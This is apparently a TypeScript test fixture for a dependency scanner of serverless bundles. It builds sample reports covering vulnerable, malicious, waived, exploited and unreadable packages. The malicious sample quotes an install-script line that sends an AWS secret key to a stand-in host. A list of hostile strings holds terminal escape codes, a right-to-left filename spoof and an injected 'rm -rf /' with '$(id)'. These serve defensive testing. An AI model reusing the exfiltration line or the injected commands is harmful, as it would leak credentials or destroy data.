/** Sample reports as a scan makes them, one per situation that a reader can be in. */
import type { Finding, FindingWaiver, Package, PolicyReport, Report } from "../../src/model.ts";
import { makeFinding, makeFix, makeGap, makePackage, makeReport, makeTarget, toId } from "./build.ts";

const OWN = [{ name: "checkout", version: "1.4.0", location: "/var/task" }];
function toPackage(label: string): Package {
	const at = label.lastIndexOf("@");
	return makePackage(label.slice(0, at), label.slice(at + 1));
}

const FILLERS: readonly Package[] = Array.from({ length: 200 }, (_, index) =>
	makePackage(`filler-${String(index).padStart(3, "0")}`, "1.0.0"),
);

function clean(): Report {
	const packages = [
		...FILLERS,
		makePackage("esbuild", "0.25.0", { hasInstallScript: true }),
		makePackage("sharp", "0.33.5", { hasInstallScript: true }),
	];
	const findings = packages.slice(-2).map((item) =>
		makeFinding(item, "fnsift/install-script", {
			kind: "install-script",
			severity: "low",
			score: null,
			title: "runs a script when it is installed",
			details: ["install.js: known builder"],
			url: null,
		}),
	);
	const target = makeTarget("build/checkout.zip", {
		function: { arn: null, runtime: "nodejs22.x", handler: "index.handler", codeSha256: "q3Zb0w==", layers: [] },
		packages,
		own: OWN,
		findings,
	});
	return makeReport([target], 0);
}

function vulnerable(): Report {
	const layer = "build/base-layer.zip";
	const minimist = makePackage("minimist", "1.2.0", {
		relation: "direct",
		locations: ["/var/task/node_modules/minimist", "/var/task/node_modules/mkdirp/node_modules/minimist"],
	});
	const qs = makePackage("qs", "6.5.2", {
		integrity: "sha512-N5ZAX4/LxJmF+7wN74pUD6qAh9/wnvdQcjq9TZjevvXzSUo7bfmw91saqMjzGS2xq91/odN2dW/WOl7qQHNDGA==",
	});
	const winner = makePackage("lodash", "4.17.21", { relation: "direct" });
	const lodash = makePackage("lodash", "4.17.15", {
		origin: layer,
		locations: ["/opt/nodejs/node_modules/lodash"],
		shadowedBy: winner.id,
	});
	const axios = makePackage("axios", "0.21.0", { origin: layer, locations: ["/opt/nodejs/node_modules/axios"] });
	const vendored = makePackage("handlebars", "4.0.11", {
		locations: ["/var/task/node_modules/report-templates/vendor/handlebars"],
		unrooted: true,
		confidence: "low",
	});
	const semver = makePackage("semver", "5.7.1", { scope: "dev" });
	const next = makePackage("@scope/very-long-package-name-for-internal-usage", "10.20.30-beta.4", {
		locations: [
			"/var/task/node_modules/@another-scope/some-long-package/node_modules/deeper/node_modules/@scope/very-long-package-name-for-internal-usage",
		],
	});
	const between = ["express@4.16.4", "request@2.88.0", "mocha@6.2.0", "nyc@14.0.0", "make-dir@2.1.0"].map(toPackage);
	const scoped = makePackage("@another-scope/some-long-package", "1.0.0");
	const findings: Finding[] = [
		makeFinding(minimist, "CVE-2021-44906", {
			severity: "critical",
			score: 9.8,
			aliases: ["GHSA-xvch-5gv4-984h"],
			title: "Prototype Pollution in minimist",
			cwes: ["CWE-1321"],
			fixedIn: ["1.2.6"],
		}),
		makeFinding(minimist, "CVE-2020-7598", {
			severity: "medium",
			score: 5.6,
			aliases: ["GHSA-vh95-rmgr-6w4m"],
			title: "Prototype Pollution in minimist",
			fixedIn: ["1.2.3"],
		}),
		makeFinding(qs, "CVE-2022-24999", {
			title: "qs vulnerable to Prototype Pollution that lets an attacker hang a Node process of an Express application",
			aliases: ["GHSA-hrpp-h998-j3pp"],
			fixedIn: ["6.5.3"],
			paths: [
				["checkout", "express@4.16.4", "qs@6.5.2"],
				["checkout", "request@2.88.0", "qs@6.5.2"],
			],
			pathCount: 2,
		}),
		makeFinding(lodash, "CVE-2021-23337", {
			title: "Command Injection in lodash",
			severity: "high",
			score: 7.2,
			fixedIn: ["4.17.21"],
			gating: false,
			paths: [],
			pathCount: 0,
		}),
		makeFinding(axios, "CVE-2021-3749", {
			title: "axios Inefficient Regular Expression Complexity vulnerability",
			fixedIn: ["0.21.2"],
			paths: [],
			pathCount: 0,
		}),
		makeFinding(axios, "GHSA-wf5p-g6vw-rhxx", {
			title: "Axios Cross-Site Request Forgery Vulnerability",
			severity: "medium",
			score: 6.5,
			fixedIn: ["0.28.0", "1.6.0"],
			paths: [],
			pathCount: 0,
		}),
		makeFinding(vendored, "CVE-2019-19919", {
			title: "Prototype Pollution in handlebars",
			severity: "critical",
			score: 9.8,
			confidence: "low",
			fixedIn: ["4.3.0"],
			gating: false,
			paths: [],
			pathCount: 0,
		}),
		makeFinding(semver, "CVE-2022-25883", {
			title: "semver vulnerable to Regular Expression Denial of Service",
			fixedIn: ["5.7.2"],
			paths: [["checkout", "mocha@6.2.0", "nyc@14.0.0", "make-dir@2.1.0", "semver@5.7.1"]],
			pathCount: 7,
		}),
		makeFinding(next, "CVE-2026-10001", {
			title: "Unscored weakness",
			severity: "unknown",
			score: null,
			confidence: "medium",
			paths: [
				[
					"checkout",
					"@another-scope/some-long-package@1.0.0",
					"deeper@2.0.0",
					"@scope/very-long-package-name-for-internal-usage@10.20.30-beta.4",
				],
			],
		}),
	];
	const idOf = (rule: string) => findings.filter((finding) => finding.rule === rule).map(({ id }) => id);
	const fixes = [
		makeFix("minimist", {
			rank: 1,
			from: "1.2.0",
			to: "1.2.6",
			closes: [...idOf("CVE-2021-44906"), ...idOf("CVE-2020-7598")].sort(),
			impact: { uncompressed: -1_234, compressed: -410, files: 0, basis: "registry" },
			verified: "resolved",
		}),
		makeFix("semver", {
			rank: 2,
			action: "remove",
			from: "5.7.1",
			to: null,
			breaking: "unknown",
			closes: idOf("CVE-2022-25883"),
			impact: { uncompressed: -9_420_000, compressed: -2_100_000, files: -1_204, basis: "measured" },
			command: "npm prune --omit=dev",
			reason: "Nothing in production needs mocha and 61 other development packages that were deployed.",
		}),
		makeFix("qs", {
			rank: 3,
			action: "override",
			from: "6.5.2",
			to: "6.5.3",
			closes: idOf("CVE-2022-24999"),
			command: `npm pkg set 'overrides.express.qs=6.5.3' 'overrides.request.qs=6.5.3' && npm install`,
			reason: "express 4.16.4 asks for exactly 6.5.2, so an update alone cannot reach 6.5.3.",
		}),
		makeFix("axios", {
			rank: 4,
			action: "rebuild-layer",
			from: "0.21.0",
			to: "0.28.0",
			origin: layer,
			breaking: "major",
			closes: [...idOf("CVE-2021-3749"), ...idOf("GHSA-wf5p-g6vw-rhxx")].sort(),
			introduces: ["CVE-2023-45857"],
			command: null,
			reason: "axios comes from the layer build/base-layer.zip, which is built apart from the function.",
		}),
		makeFix("@scope/very-long-package-name-for-internal-usage", {
			rank: 5,
			action: "none",
			from: "10.20.30-beta.4",
			to: null,
			breaking: "unknown",
			closes: idOf("CVE-2026-10001"),
			command: null,
			reason: "No advisory names a fixed version.",
		}),
	];
	const target = makeTarget("build/checkout.zip", {
		function: { arn: null, runtime: "nodejs20.x", handler: "index.handler", codeSha256: "q3Zb0w==", layers: [layer] },
		size: { compressed: 9_812_345, uncompressed: 41_234_567, files: 3_120 },
		packages: [
			scoped,
			next,
			...FILLERS,
			...between,
			toPackage("deeper@2.0.0"),
			axios,
			vendored,
			lodash,
			winner,
			minimist,
			qs,
			semver,
		],
		own: OWN,
		disagreements: [
			{
				package: "minimist",
				installed: "1.2.0",
				lockfile: "1.2.6",
				path: "/var/task/package-lock.json",
				location: "/var/task/node_modules/minimist",
			},
		],
		findings,
		fixes,
		gaps: [
			makeGap("manifest-unreadable", {
				path: "node_modules/broken/package.json",
				message: "The package manifest is not valid JSON; the package is listed without a version.",
			}),
		],
	});
	return makeReport([target], 1, [{ kind: "findings", message: "6 findings at or above medium" }]);
}

function malicious(): Report {
	const stealer = makePackage("event-stream", "3.3.6", { confidence: "high" });
	const squat = makePackage("crossenv", "6.1.1", { relation: "direct" });
	const loader = makePackage("fast-telemetry", "2.0.1", { hasInstallScript: true, relation: "direct" });
	const builder = makePackage("bcrypt", "5.1.0", { hasInstallScript: true, relation: "direct" });
	const findings = [
		makeFinding(stealer, "MAL-2025-20690", {
			kind: "malicious",
			severity: "critical",
			score: null,
			title: "Malicious code in event-stream (npm)",
			aliases: ["GHSA-mh6f-8j2x-4483"],
			paths: [["checkout", "ps-tree@1.1.0", "event-stream@3.3.6"]],
		}),
		makeFinding(squat, "fnsift/typosquat", {
			kind: "typosquat",
			severity: "high",
			score: null,
			confidence: "medium",
			title: "looks like cross-env, which is downloaded 9,400 times as often",
			details: ["crossenv: the separator of cross-env is missing"],
			url: null,
		}),
		makeFinding(loader, "fnsift/install-script", {
			kind: "install-script",
			severity: "critical",
			score: null,
			title: "its install script reads secrets and sends them to a host",
			details: [
				"postinstall: node setup.js",
				'setup.js:3 https.request({ host: "collect.example", headers: { x: process.env.AWS_SECRET_ACCESS_KEY } })',
			],
			url: null,
		}),
		makeFinding(builder, "fnsift/install-script", {
			kind: "install-script",
			severity: "low",
			score: null,
			title: "runs a script when it is installed",
			url: null,
		}),
	];
	const fixes = [
		makeFix("fast-telemetry", {
			rank: 1,
			action: "remove",
			from: "2.0.1",
			to: null,
			breaking: "unknown",
			closes: [findings[2]!.id],
			impact: { uncompressed: -18_400, compressed: -5_200, files: -4, basis: "measured" },
			command: "npm uninstall fast-telemetry",
			reason: "Its install script sends secrets away; no version is known to be harmless.",
		}),
		makeFix("crossenv", {
			rank: 2,
			action: "remove",
			from: "6.1.1",
			to: null,
			breaking: "unknown",
			closes: [findings[1]!.id],
			impact: { uncompressed: -900, compressed: -500, files: -2, basis: "measured" },
			command: "npm uninstall crossenv",
			reason: "If cross-env was meant, install that instead.",
		}),
		makeFix("event-stream", {
			rank: 3,
			action: "none",
			from: "3.3.6",
			to: null,
			breaking: "unknown",
			closes: [findings[0]!.id],
			command: null,
			reason: "ps-tree brings it in: remove or replace ps-tree. Rotate every credential the function could read.",
		}),
	];
	const target = makeTarget("services/billing/package-lock.json", {
		kind: "lockfile",
		size: { compressed: null, uncompressed: 181_204, files: 1 },
		packages: [builder, squat, stealer, loader, ...FILLERS].map((item) => ({
			...item,
			evidence: ["lockfile"],
			size: null,
		})),
		own: OWN,
		findings,
		fixes,
	});
	return makeReport([target], 1, [{ kind: "findings", message: "3 findings at or above high" }]);
}

/** Findings that are known to be exploited, one that is likely to be, one that is not, and a copy that is not loaded. */
function exploited(): Report {
	const lodash = makePackage("lodash", "4.17.15", { relation: "direct" });
	const angular = makePackage("angular-expressions", "1.0.0", { relation: "direct" });
	const old = makePackage("lodash", "4.17.10", {
		locations: ["/var/task/node_modules/old/node_modules/lodash"],
		shadowedBy: lodash.id,
	});
	const kev = { added: "2021-12-10", dueDate: "2021-12-24", ransomware: true };
	const findings = [
		makeFinding(lodash, "CVE-2021-23337", {
			exploitation: { epss: { score: 0.94358, percentile: 0.99962 }, kev },
			title: "Command Injection in lodash",
			fixedIn: ["4.17.21"],
		}),
		makeFinding(lodash, "CVE-2020-28500", {
			severity: "medium",
			score: 5.3,
			exploitation: { epss: { score: 0.00043, percentile: 0.1288 }, kev: null },
			title: "Regular Expression Denial of Service (ReDoS) in lodash",
			fixedIn: ["4.17.21"],
		}),
		makeFinding(old, "CVE-2018-16487", {
			exploitation: { epss: null, kev: { added: "2022-03-03", dueDate: null, ransomware: false } },
			title: "Prototype Pollution in lodash",
			fixedIn: ["4.17.11"],
			gating: false,
		}),
		makeFinding(angular, "CVE-2021-21277", {
			severity: "critical",
			score: 9.9,
			exploitation: { epss: { score: 0.42, percentile: 0.97 }, kev: null },
			confidence: "medium",
			title: "Angular Expressions - Remote Code Execution",
			fixedIn: ["1.1.2"],
		}),
	];
	const fixes = [
		makeFix("lodash", {
			from: "4.17.15",
			to: "4.17.21",
			closes: findings.slice(0, 2).map(({ id }) => id),
			command: "npm install lodash@4.17.21",
		}),
		makeFix("angular-expressions", {
			rank: 2,
			to: "1.1.2",
			breaking: "minor",
			closes: findings.slice(3).map(({ id }) => id),
			command: "npm install angular-expressions@1.1.2",
		}),
	];
	const target = makeTarget("build/exploited.zip", { packages: [lodash, angular, old], own: OWN, findings, fixes });
	const report = makeReport([target], 0);
	const exploits = {
		epss: { date: "2026-11-21T00:00:00Z", cves: 301_411 },
		kev: { date: "2026-11-20T15:00:05.9Z", cves: 1_487 },
		sha256: "0c31a5f1c7d1f3ad0a8e5b1b1c7f0e3f7d2b6f2f8d3f4a5b6c7d8e9f9f2c4d1b",
	};
	return { ...report, database: { ...report.database, exploits } };
}

/** The vulnerable function as a gate judged it: the worst is waived, one finding was known, and some waivers need care. */
function gated(): Report {
	const report = vulnerable();
	const source = { kind: "policy", file: "fnsift.yaml" } as const;
	const waiver = {
		reason: "only our own arguments reach it, and they are checked",
		expires: "2027-01-01",
		justification: "vulnerable_code_cannot_be_controlled_by_adversary",
		source,
	};
	const expired = { ...waiver, reason: "waits for express 5", expires: "2026-11-01", justification: null };
	const targets = report.targets.map((target) => ({
		...target,
		findings: target.findings.map((finding) => ({
			...finding,
			waived: finding.name === "minimist" ? waiver : null,
			known: finding.rule === "CVE-2022-25883",
		})),
		overGate: new Set(
			target.findings
				.filter(({ rule }) => ["CVE-2022-24999", "CVE-2021-3749", "CVE-2026-10001"].includes(rule))
				.map(({ id }) => id),
		),
	}));
	const parts = { package: "minimist@<1.2.6", scope: ["build/*.zip"] };
	const gone = targets[0]?.findings.find(({ name }) => name === "semver");
	return {
		...makeReport(targets, 1, [{ kind: "findings", message: "3 findings at or above high" }]),
		policy: {
			applied: true,
			config: "../fnsift.yaml",
			waivers: [
				{ ...waiver, ...parts, ids: ["CVE-2021-44906", "CVE-2020-7598"], state: "active", findings: 2 },
				{ ...expired, ids: ["CVE-2022-24999"], package: null, scope: [], state: "expired", findings: 1 },
			],
			baseline: {
				file: "known.fnsift-baseline",
				known: 1,
				removable: gone === undefined ? [] : [{ ...toEntry(gone), rule: "CVE-2020-1" }],
			},
		},
		verdict: {
			passed: false,
			exitCode: 1,
			reasons: [{ kind: "findings", message: "3 findings at or above high" }],
			warnings: [
				{
					kind: "waiver-expired",
					message: "the waiver of CVE-2022-24999 expired on 2026-11-01: 1 finding it accepted counts again",
				},
				{
					kind: "baseline-removable",
					message: "1 finding of known.fnsift-baseline was not seen again: write the baseline anew",
				},
			],
		},
	};
}

function toEntry({ key, kind, rule, severity }: Finding) {
	return { id: key, kind, package: "pkg:npm/semver", rule, severity };
}

function unseen(): Report {
	const gaps = [
		makeGap("layer-unreadable", {
			stage: "unpack",
			blocking: true,
			path: "build/shared-layer.zip",
			message: "The layer could not be opened: its central directory ends after 12 of 3,004 entries.",
		}),
		makeGap("bundle-unidentified", {
			blocking: true,
			path: "dist/index.js",
			message:
				"1.8 MB of 2.1 MB of bundled JavaScript belong to packages that cannot be named. Build with a source map, or scan the lockfile too.",
		}),
		...Array.from({ length: 14 }, (_, index) =>
			makeGap("manifest-unreadable", {
				path: `node_modules/broken-${String(index).padStart(2, "0")}/package.json`,
				message: "The package manifest is not valid JSON; the package is listed without a version.",
			}),
		),
	];
	return makeReport([makeTarget("build/orders.zip", { packages: FILLERS.slice(0, 12), own: OWN, gaps })], 3, [
		{ kind: "gaps", message: "2 blocking gaps: packages may have gone unseen" },
	]);
}

function empty(): Report {
	const target = makeTarget("build/assets.zip", {
		empty: true,
		size: { compressed: 20_000, uncompressed: 88_000, files: 3 },
	});
	return makeReport([target], 4, [{ kind: "nothing-to-scan", message: "no package, and no code that could hold one" }]);
}

function several(): Report {
	const targets = [...vulnerable().targets, ...clean().targets, ...unseen().targets].map((target, index) => ({
		...target,
		target: ["build/checkout.zip", "build/mailer.zip", "build/orders.zip"][index]!,
	}));
	return makeReport(targets, 1, [
		{ kind: "findings", message: "6 findings at or above medium" },
		{ kind: "gaps", message: "2 blocking gaps: packages may have gone unseen" },
	]);
}

function many(): Report {
	const packages = Array.from({ length: 40 }, (_, index) =>
		makePackage(`pkg-${String(index).padStart(2, "0")}`, "1.0.0"),
	);
	const findings = packages.flatMap((item, index) =>
		Array.from({ length: index === 0 ? 30 : 1 }, (_, number) =>
			makeFinding(item, `CVE-2026-${10_000 + index * 100 + number}`, { fixedIn: ["1.0.1"] }),
		),
	);
	const fixes = packages.map((item, index) =>
		makeFix(item.name, {
			rank: index + 1,
			closes: findings
				.filter(({ name }) => name === item.name)
				.map(({ id }) => id)
				.sort(),
		}),
	);
	return makeReport([makeTarget("build/legacy.zip", { packages, own: OWN, findings, fixes })], 0);
}

/** Everything that a scanned name could hold to fool a terminal. */
export const HOSTILE_TEXTS: readonly string[] = [
	"\u001b[2J\u001b[31mred\u001b]0;title\u0007",
	"line one\nline two\r\tend",
	"right-to-left \u202egnp.exe\u2066",
	"zero\u200bwidth\u200d\ufeff",
	"\u009b31mC1",
	"lone \ud800 surrogate",
	"漢字かな交じり文の名前がとても長い場合にはどうなるか試してみる",
	"👩‍👩‍👧‍👦 family 🇳🇴 flag 👍🏽 tone",
	"e\u0301\u0302\u0303 accents Zalgo\u0336\u0337",
	"a".repeat(400),
	"__proto__",
	"`rm -rf /` $(id) ; & |",
	"",
];

/** A report with the given texts wherever a scan puts text that it did not choose. */
export function makeHostileReport(texts: readonly string[]): Report {
	const packages = texts.map((text, index) =>
		makePackage(text, index % 2 === 0 ? text : "1.0.0", {
			id: `hostile-${index}`,
			locations: [`/var/task/node_modules/${text}`, `/opt/${text}`],
			origin: index % 3 === 0 ? text : "function",
			shadowedBy: index % 4 === 0 ? `hostile-${(index + 1) % texts.length}` : null,
			confidence: index % 5 === 0 ? "low" : "high",
		}),
	);
	const findings = packages.map((item, index) =>
		makeFinding(item, index % 2 === 0 ? `CVE-2026-${20_000 + index}` : item.name, {
			title: item.name,
			waived: index % 6 === 5 ? toHostileWaiver(item.name) : null,
			known: index % 7 === 6,
			aliases: [item.name],
			details: [item.name],
			fixedIn: [item.name],
			paths: [[item.name, item.name, `${item.name}@${item.name}`]],
			url: item.name,
		}),
	);
	const fixes = packages.map((item, index) =>
		makeFix(item.name, {
			rank: index + 1,
			from: item.version,
			to: item.name,
			origin: item.origin,
			action: index % 2 === 0 ? "upgrade" : "rebuild-layer",
			closes: findings.slice(index, index + 1).map(({ id }) => id),
			introduces: [item.name],
			command: index % 3 === 0 ? `npm install '${item.name}'` : null,
			reason: item.name,
		}),
	);
	const gaps = texts.map((text, index) =>
		makeGap("hostile-name", { path: text, message: text, blocking: index % 2 === 0 }),
	);
	const [runtime = "", handler = ""] = texts;
	const target = makeTarget(texts.join(" "), {
		function: { arn: null, runtime, handler, codeSha256: null, layers: texts },
		packages,
		own: texts.map((text) => ({ name: text, version: text, location: `/var/task/${text}` })),
		disagreements: texts.map((text) => ({
			package: text,
			installed: text,
			lockfile: null,
			path: "/var/task/package-lock.json",
			location: `/var/task/node_modules/${text}`,
		})),
		findings,
		fixes,
		gaps,
	});
	const report = makeReport(
		[target],
		1,
		texts.map((message) => ({ kind: "findings", message })),
	);
	const warnings = texts.map((message) => ({ kind: "waiver-unused" as const, message }));
	return { ...report, policy: makeHostilePolicy(texts), verdict: { ...report.verdict, warnings } };
}

function makeHostilePolicy(texts: readonly string[]): PolicyReport {
	const waivers = texts.map((text, index) => ({
		...toHostileWaiver(text),
		ids: [text],
		package: text,
		scope: [text],
		state: "active" as const,
		findings: index,
	}));
	const removable = texts.map((text) => ({
		id: toId(text),
		kind: "vulnerability" as const,
		package: text,
		rule: text,
		severity: "low" as const,
	}));
	const [file = ""] = texts;
	return { applied: true, config: file, waivers, baseline: { file, known: 1, removable } };
}

function toHostileWaiver(text: string): FindingWaiver {
	return { reason: text, expires: null, justification: text, source: { kind: "vex", file: text } };
}

/** By the name of their golden files. */
export const SAMPLES: ReadonlyMap<string, Report> = new Map([
	["clean", clean()],
	["vulnerable", vulnerable()],
	["malicious", malicious()],
	["gated", gated()],
	["exploited", exploited()],
	["unseen", unseen()],
	["empty", empty()],
	["several", several()],
	["many", many()],
	["hostile", makeHostileReport(HOSTILE_TEXTS)],
]);
